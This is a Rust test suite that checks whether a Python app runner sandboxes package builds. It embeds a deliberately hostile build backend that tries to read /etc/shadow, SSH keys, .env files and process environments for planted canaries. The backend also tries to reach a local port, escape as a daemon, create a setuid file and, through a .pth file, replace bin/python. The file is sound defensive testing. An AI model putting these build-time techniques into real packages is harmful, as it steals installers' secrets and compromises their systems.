//! Packages that do harm while they are built: they run in a box, and get nothing. No story needs a network.

use std::io::{BufRead as _, BufReader, Write as _};
use std::net::TcpListener;
use std::path::{Path, PathBuf};

use ingle_testkit::{App, Launch, Python, Server, on_each_python};
use serde_json::Value;
use tokio::time::Instant;

use crate::environment::{beside, launch_app};

on_each_python!(
    t_008_a_package_that_is_built_gets_nothing,
    t_008_a_package_of_the_app_changes_nothing,
    t_008_a_package_can_not_replace_python
);

/// A build backend that is its own package, so that none has to be installed (PEP 517). It tries what must fail, and
/// tells in the module that it builds what did not.
const BACKEND: &str = r##"
import glob, json, os, pathlib, socket, sys, tempfile, zipfile

FOUND = {}

def attempt(name, steal):
    try:
        got = steal()
    except OSError:
        return
    if got:
        FOUND[name] = repr(got)[:300]

def stolen(path):
    text = open(path, errors="replace").read()
    return text if "canary" in text or path == "/etc/shadow" else None

def connect(port):
    with socket.create_connection(("127.0.0.1", port), timeout=5):
        return "connected"

def stay():
    "A process that nobody waits for and no group holds."
    reader, writer = os.pipe()
    if os.fork():
        return os.read(reader, 1) and None
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in range(3):
        os.close(number)
    os.write(writer, b"1")
    script = "import sys, os, time\nwhile not os.path.exists(sys.argv[1]): time.sleep(0.01)\nopen(sys.argv[2], 'w').write('late')"
    os.execv(sys.executable, [sys.executable, "-c", script, sys.prefix + "/.ingle-ready", sys.prefix + "/escaped"])

def trick():
    os.symlink("VICTIM", sys.prefix + "/.ingle-ready")

def rise():
    path = sys.prefix + "/risen"
    with open(path, "w") as file:
        file.write("#!/bin/sh\nid\n")
    os.chmod(path, 0o6755)

def try_everything():
    for path in ["/etc/shadow", "SSH", "OTHER", "APP/local.settings.json", "APP/.env", "STATE/keys.json"]:
        attempt(path, lambda: stolen(path))
    for path in glob.glob("/proc/[0-9]*/environ"):
        attempt(path, lambda: stolen(path))
    attempt("variables", lambda: [name for name, value in os.environ.items() if "canary" in value + name.lower()])
    attempt("connect", lambda: connect(PORT))
    attempt("write", lambda: open("OTHER", "a").write("x"))
    attempt("write /usr", lambda: open("/usr/canary", "a").write("x"))
    attempt("folders", lambda: [name for name in os.listdir("BESIDE") if name not in ("app", "cache", "packages")])
    for harm in (stay, trick, rise):
        attempt(harm.__name__, harm)

def build_wheel(folder, config_settings=None, metadata_directory=None):
    try_everything()
    pathlib.Path("built").mkdir(exist_ok=True)
    pathlib.Path("built/note").write_text("written beside the source")
    name = "harm-1.0-py3-none-any.whl"
    # As setuptools does: made in one folder, moved to another.
    made = os.path.join(tempfile.mkdtemp(), name)
    with zipfile.ZipFile(made, "w") as wheel:
        wheel.writestr("harm.py", "FOUND = %r\n" % json.dumps(FOUND))
        wheel.writestr("harm-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: harm\nVersion: 1.0\n")
        wheel.writestr("harm-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr("harm-1.0.dist-info/RECORD", "harm.py,,\nharm-1.0.dist-info/METADATA,,\nharm-1.0.dist-info/WHEEL,,\nharm-1.0.dist-info/RECORD,,\n")
    os.rename(made, os.path.join(folder, name))
    return name
"##;

const PROJECT: &str = "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n\
    [project]\nname = \"harm\"\nversion = \"1.0\"\n";

const FUNCTIONS: &str = r#"
import harm

@app.route(route="found")
def found(req: func.HttpRequest) -> str:
    return harm.FOUND
"#;

/// Packs a folder as a package is published.
const SDIST: &str =
    "import sys, tarfile\nwith tarfile.open(sys.argv[2], 'w:gz') as file: file.add(sys.argv[1], 'harm-1.0')";

fn app(requirement: &str) -> App {
    App::python(FUNCTIONS)
        .file("requirements.txt", &format!("{requirement}\nazure-functions\n"))
        .file("local.settings.json", r#"{"IsEncrypted": false, "Values": {"PASSWORD": "canary-of-the-app"}}"#)
        .file(".env", "PASSWORD=canary-of-the-app")
}

/// Secrets beside the app, which the server has and its packages must not see.
struct Secrets {
    listener: TcpListener,
    backend: String,
    launch: Launch,
}

impl Secrets {
    fn new(python: &Python, app: &App) -> Self {
        let launch = launch_app(python, app);
        let home = beside(&launch, "home");
        let write = |path: &str, text: &str| {
            std::fs::create_dir_all(Path::new(path).parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        };
        let (ssh, other) = (format!("{home}/.ssh/id_ed25519"), beside(&launch, "other/file"));
        write(&ssh, "canary-of-the-user");
        write(&other, "canary-of-another");
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let backend = BACKEND
            .replace("SSH", &ssh)
            .replace("OTHER", &other)
            .replace("VICTIM", &other)
            .replace("APP", &launch.folder().display().to_string())
            .replace("STATE", &launch.state_folder().display().to_string())
            .replace("BESIDE", &beside(&launch, ""))
            .replace("PORT", &listener.local_addr().unwrap().port().to_string());
        let launch = launch
            .variable("HOME", &home)
            .variable("DATABASE_PASSWORD", "canary-of-the-server")
            .variable("UV_PUBLISH_TOKEN", "canary-of-the-server");
        Self { listener, backend, launch }
    }

    /// Serves the app, and looks at what its package has got.
    fn check(&self) {
        let server = self.launch.clone().start();
        let found = found(&server);
        assert_eq!(found, serde_json::json!({}), "the package got something");
        assert!(self.listener.accept().is_err(), "the package has reached a service of the machine");
        let other = std::fs::read_to_string(beside(&self.launch, "other/file")).unwrap();
        assert_eq!(other, "canary-of-another");
        let environment = &self.environment();
        assert!(environment.join(".ingle-ready").symlink_metadata().unwrap().is_file());
        assert!(!environment.join("escaped").exists() && !is_running(environment), "a daemon lives");
        let mode = std::os::unix::fs::PermissionsExt::mode(
            &std::fs::metadata(environment.join("risen")).unwrap().permissions(),
        );
        assert_eq!(mode & 0o6000, 0, "what a package leaves runs as its owner");
        server.stop();
    }
}

impl Secrets {
    /// The one that was built.
    fn environment(&self) -> PathBuf {
        let store = beside(&self.launch, "cache/environments");
        let entries = std::fs::read_dir(store).unwrap().flatten().map(|entry| entry.path());
        let environments: Vec<_> = entries.filter(|path| path.is_dir()).collect();
        let [environment] = &environments[..] else { panic!("{environments:?}") };
        environment.clone()
    }
}

fn found(server: &Server) -> Value {
    serde_json::from_str(&server.get("/api/found").status(200).text()).unwrap()
}

/// Whether a process of this machine waits to write into the folder.
fn is_running(folder: &Path) -> bool {
    let wanted = folder.join("escaped").display().to_string();
    let processes = std::fs::read_dir("/proc").unwrap().flatten();
    processes
        .map(|entry| entry.path().join("cmdline"))
        .any(|file| std::fs::read(file).is_ok_and(|bytes| String::from_utf8_lossy(&bytes).contains(&wanted)))
}

/// What the package tries does work where nothing keeps it from that.
#[test]
fn without_a_box_a_package_gets_what_it_wants() {
    let secrets = Secrets::new(&Python::any(), &app("harm"));
    publish(&secrets, &Python::any());
    let server = secrets.launch.clone().argument("--isolation").argument("off").start();
    let found = found(&server);
    for name in ["variables", "connect", "write", "folders"] {
        assert!(found[name].is_string(), "{name} in {found}");
    }
    let of_files = found.as_object().unwrap().keys().filter(|name| name.starts_with('/')).count();
    assert!(of_files >= 5, "{found}");
    let (escaped, deadline) =
        (secrets.environment().join("escaped"), Instant::now() + ingle_testkit::DEADLINE);
    while !escaped.exists() {
        assert!(Instant::now() < deadline, "the daemon does not write");
        std::thread::yield_now();
    }
}

/// T-008: a package of an index, built here.
fn t_008_a_package_that_is_built_gets_nothing(python: &Python) {
    let secrets = Secrets::new(python, &app("harm"));
    publish(&secrets, python);
    secrets.check();
}

/// Puts the source of the package to where packages come from.
fn publish(secrets: &Secrets, python: &Python) {
    let source = beside(&secrets.launch, "packages/source");
    std::fs::create_dir_all(&source).unwrap();
    std::fs::write(format!("{source}/backend.py"), &secrets.backend).unwrap();
    std::fs::write(format!("{source}/pyproject.toml"), PROJECT).unwrap();
    std::fs::write(format!("{source}/PKG-INFO"), "Metadata-Version: 2.1\nName: harm\nVersion: 1.0\n")
        .unwrap();
    python.run(SDIST, &[&source, &beside(&secrets.launch, "packages/harm-1.0.tar.gz")]);
}

/// T-008: a package in the app's own folder is built where it is, and nothing of that reaches the folder.
fn t_008_a_package_of_the_app_changes_nothing(python: &Python) {
    let secrets = Secrets::new(python, &app("./harm"));
    let source = secrets.launch.folder().join("harm");
    std::fs::create_dir_all(&source).unwrap();
    std::fs::write(source.join("backend.py"), &secrets.backend).unwrap();
    std::fs::write(source.join("pyproject.toml"), PROJECT).unwrap();
    // The function of the app is a module of the same name, which is installed; the folder is no package.
    secrets.check();
    let left: Vec<_> = std::fs::read_dir(&source).unwrap().flatten().map(|entry| entry.file_name()).collect();
    assert_eq!(left.len(), 2, "{left:?}");
}

/// Runs whenever this environment's Python starts, from the end of the installation on.
const REPLACE: &str = "import os, sys; link = sys.prefix + '/bin/python'; \
    os.path.realpath(link) == 'VICTIM' or (os.unlink(link), os.symlink('VICTIM', link))\n";

/// T-008: what is beside the program to which `bin/python` leads is seen by functions, so it must lead to Python.
fn t_008_a_package_can_not_replace_python(python: &Python) {
    let launch = launch_app(python, &app("harm"));
    let victim = beside(&launch, "home/bin/tool");
    std::fs::create_dir_all(Path::new(&victim).parent().unwrap()).unwrap();
    std::fs::write(&victim, "no program of Python").unwrap();
    let backend = BACKEND.replace("try_everything()\n    pathlib", "pathlib").replace(
        "        wheel.writestr(\"harm.py\"",
        &format!(
            "        wheel.writestr(\"harm.pth\", {:?})\n        wheel.writestr(\"harm.py\"",
            REPLACE.replace("VICTIM", &victim)
        ),
    );
    let secrets = Secrets { listener: TcpListener::bind("127.0.0.1:0").unwrap(), backend, launch };
    publish(&secrets, python);
    let ended = secrets.launch.clone().may_complain("E0603").begin().wait();
    let said = format!("{:?}{:?}", ended.lines, ended.stderr);
    assert!(said.contains("leads to") && said.contains("home/bin/tool"), "{said}");
    assert!(!secrets.environment().join(".ingle-ready").exists(), "{said}");
}

/// An index at this machine's loopback is reached if it is what packages are to come from. Which Python it is does not
/// matter.
#[test]
fn an_index_of_this_machine_is_reached() {
    let functions = "import greeting\n\n@app.route(route=\"greet\")\ndef greet(req: func.HttpRequest) -> str:\n    return greeting.greet()\n";
    let app = App::python(functions).file("requirements.txt", "greeting\nazure-functions\n");
    let launch = launch_app(&Python::any(), &app);
    let packages = beside(&launch, "packages");
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let index = format!("http://{}/simple", listener.local_addr().unwrap());
    std::thread::spawn(move || serve(&listener, &packages));
    let launch =
        ["PIP_NO_INDEX", "UV_NO_INDEX"].iter().fold(launch, |launch, name| launch.variable(name, "0"));
    let launch =
        ["PIP_FIND_LINKS", "UV_FIND_LINKS"].iter().fold(launch, |launch, name| launch.variable(name, ""));
    let server = launch.variable("PIP_INDEX_URL", &index).variable("UV_INDEX_URL", &index).start();
    assert_eq!(server.get("/api/greet").status(200).text(), "Good evening");
}

/// All packages of a folder, each on every page: an index as simple as one may be (PEP 503).
fn serve(listener: &TcpListener, packages: &str) {
    for connection in listener.incoming() {
        let mut connection = connection.unwrap();
        let mut lines = BufReader::new(connection.try_clone().unwrap()).lines().map_while(Result::ok);
        let Some(first) = lines.next() else { continue };
        // All of it is read, so that the end of the connection is no error.
        lines.by_ref().take_while(|line| !line.is_empty()).for_each(drop);
        let path = first.split(' ').nth(1).unwrap_or_default().to_owned();
        let name = path.rsplit('/').next().unwrap_or_default();
        let (kind, body) = if path.ends_with(".whl") {
            ("application/octet-stream", std::fs::read(Path::new(packages).join(name)).unwrap_or_default())
        } else {
            let files = std::fs::read_dir(packages).unwrap().flatten();
            let links = files.map(|file| file.file_name().display().to_string());
            (
                "text/html",
                links
                    .map(|name| format!("<a href=\"/{name}\">{name}</a>\n"))
                    .collect::<String>()
                    .into_bytes(),
            )
        };
        let head = format!(
            "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
            body.len()
        );
        connection.write_all(head.as_bytes()).and_then(|()| connection.write_all(&body)).ok();
    }
}
